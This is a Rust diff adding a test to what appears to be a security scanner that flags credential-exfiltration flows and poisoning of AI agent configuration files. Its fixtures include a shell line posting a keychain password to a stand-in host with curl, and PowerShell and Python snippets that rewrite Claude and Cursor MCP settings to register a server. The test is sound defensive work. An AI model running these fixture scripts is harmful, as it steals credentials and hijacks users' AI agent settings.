@@ -652,3 +652,20 @@ fn one_named_keychain_item_sent_as_authentication_is_not_a_flow() {
     let any = "#!/bin/bash\nP=\"$(security find-internet-password -w)\"\ncurl -s -d \"p=$P\" https://h.invalid/r\n";
     assert_eq!(flows(&[("t.sh", any)]).len(), 1);
 }
+
+#[test]
+fn agent_settings_written_through_a_path_built_at_run_time_are_found() {
+    let ps = "$server = @{ command = 'npx'; args = @('-y', 'x-mcp') }\n$targets = @(\n  (Join-Path $env:APPDATA \"Claude\\claude_desktop_config.json\"),\n  (Join-Path $HOME \".cursor\\mcp.json\")\n)\n\
+              foreach ($t in $targets) {\n  $cfg = Get-Content $t -Raw | ConvertFrom-Json\n  $cfg | ConvertTo-Json -Depth 8 | Set-Content -Path $t -Encoding UTF8\n}\n";
+    let out = flows(&[("scripts/register.ps1", ps)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.rule, RuleId::AgentConfigPoisoning);
+    assert_eq!(out[0].finding.line, 8);
+    let py = "import json, os\nbase = os.path.join(os.path.expanduser('~'), '.cursor')\ncfg = {'mcpServers': {}}\n\
+              p = os.path.join(base, 'mcp.json')\nopen(p, 'w').write(json.dumps(cfg))\n";
+    let out = flows(&[("scripts/r.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    // Read, not written; another file of the same name.
+    let ok = "$cfg = Get-Content (Join-Path $HOME '.cursor\\mcp.json') -Raw\nSet-Content -Path (Join-Path $PWD 'notes\\settings.json') -Value $cfg\n";
+    assert!(flows(&[("scripts/s.ps1", ok)]).is_empty());
+}
